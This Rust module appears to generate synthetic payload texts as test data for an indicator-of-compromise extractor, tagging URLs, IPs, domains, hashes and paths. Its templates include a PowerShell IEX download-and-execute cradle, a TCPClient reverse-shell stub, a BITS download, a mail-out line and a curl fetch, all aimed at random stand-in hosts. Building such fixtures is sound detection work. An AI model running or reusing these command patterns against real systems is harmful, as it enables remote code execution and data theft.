//! Texts to hide in a payload.

use super::indicator as some;
use super::notes;
use super::rng::Rng;
use super::script::{Kind, Script};

/// A script or a note, with or without indicators.
pub(super) fn text(rng: &mut Rng) -> Script {
    match rng.below(8) {
        0 => shell_script(rng),
        1 => configuration(rng),
        2 => notes::text(rng),
        3 => Script::new(
            "Inventory finished without errors; 214 items were counted and none was missing.\n",
        ),
        _ => powershell(rng),
    }
}

/// What `powershell -EncodedCommand` is given.
pub(super) fn powershell(rng: &mut Rng) -> Script {
    match rng.below(5) {
        0 => Script::new("IEX (New-Object Net.WebClient).DownloadString('")
            .ioc(some::url(rng))
            .text("')"),
        1 => Script::new("$c=New-Object System.Net.Sockets.TCPClient('")
            .ioc(some::ipv4(rng))
            .text(&format!(
                "',{});$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}}",
                rng.between(1025, 9999)
            )),
        2 => Script::new("Start-BitsTransfer -Source '")
            .ioc(some::url(rng))
            .text("' -Destination '")
            .ioc(some::windows_path(rng))
            .text("'"),
        3 => Script::new("Send-MailMessage -To '")
            .ioc(some::email(rng))
            .text("' -SmtpServer '")
            .ioc(some::domain(rng))
            .text("' -Subject done"),
        _ => Script::new(
            "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Measure-Object",
        ),
    }
}

fn shell_script(rng: &mut Rng) -> Script {
    Script::new("set -e\n")
        .ioc(super::script::Ioc::plain(Kind::LinuxPath, "/usr/bin/curl"))
        .text(" -fsS '")
        .ioc(some::url(rng))
        .text("' -o ")
        .ioc(some::linux_path(rng))
        .text("\n")
}

fn configuration(rng: &mut Rng) -> Script {
    Script::new(r#"{"server":""#)
        .ioc(some::domain(rng))
        .text(&format!(
            r#"","port":{},"spare":""#,
            rng.between(1025, 9999)
        ))
        .ioc(some::ipv6(rng))
        .text(r#"","key":""#)
        .ioc(some::digest(rng, Kind::Sha256))
        .text(r#"","log":""#)
        .ioc(some::escaped_windows_path(rng))
        .text("\"}")
}
